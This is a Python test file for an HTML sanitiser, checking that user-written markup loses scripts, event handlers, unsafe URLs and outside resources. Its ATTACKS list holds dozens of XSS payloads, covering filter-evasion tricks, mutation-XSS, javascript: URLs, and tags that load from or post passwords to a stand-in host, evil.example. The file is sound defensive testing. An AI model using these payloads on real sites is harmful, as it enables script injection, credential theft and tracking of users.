"""Whatever people write, what is shown has neither scripts nor styles nor foreign pictures."""

import html5lib
import pytest

from core.html import PROTOCOLS, TAGS, clean_html, show_lines, show_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script>",
    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<p style="position:fixed;inset:0">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=X></applet>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=password></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<strong id=x tabindex=1 onfocus=alert(1)>x</strong>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='http://evil.example'>x</a>",
    "<a href='ftp://evil.example'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://good.example' onclick='alert(1)' style='x' target=_blank>x</a>",
    "<a href=\"https://good.example/'onmouseover='alert(1)\">x</a>",
    "<a href='https://good.example/\"><script>alert(1)</script>'>x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xss onafterscriptexecute=alert(1)>x</xss>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "https://good.example/<script>alert(1)</script>",
    "javascript:alert(1)",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "＜script＞alert(1)＜/script＞",
]


def elements(html):
    tree = html5lib.parseFragment(str(html), namespaceHTMLElements=False)
    return [node for node in tree.iter() if isinstance(node.tag, str) and node is not tree]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_is_left(attack):
    for element in elements(clean_html(attack)) + elements(show_text(attack)):
        assert element.tag in TAGS
        assert set(element.attrib) <= {"href", "rel"}
        if "href" in element.attrib:
            assert element.attrib["href"].split(":")[0] in PROTOCOLS
            assert "noopener" in element.attrib["rel"]


def test_what_is_allowed_stays():
    written = "<h3>A</h3><p><strong>b</strong> <em>c</em><br>d</p><ul><li>e</li></ul><pre>f</pre>"

    assert clean_html(written) == written


def test_links_tell_nobody_where_they_came_from():
    (link,) = elements(clean_html('<a href="https://good.example/x">x</a>'))

    assert link.attrib == {
        "href": "https://good.example/x",
        "rel": "noopener noreferrer nofollow ugc",
    }


def test_addresses_written_as_text_become_links():
    (link,) = elements(clean_html("See https://example.org/a?b=1"))

    assert link.attrib["href"] == "https://example.org/a?b=1"


def test_plain_text_is_shown_as_typed():
    shown = show_text("5 < 6 & 7 > 6\r\nsecond line\n\n<b>new</b>")

    assert shown == ("<p>5 &lt; 6 &amp; 7 &gt; 6<br>second line</p><p>&lt;b&gt;new&lt;/b&gt;</p>")


def test_no_text_is_no_paragraph():
    assert show_text(" \n\n ") == ""


def test_what_is_written_one_a_line_is_shown_as_a_list():
    shown = show_lines("- Measure\r\n2) <b>Compare</b>\n\n1998 was wet\n")

    assert shown == (
        "<ul><li>Measure</li><li>&lt;b&gt;Compare&lt;/b&gt;</li><li>1998 was wet</li></ul>"
    )


def test_one_line_is_no_list():
    assert show_lines("Measure the river") == "<p>Measure the river</p>"
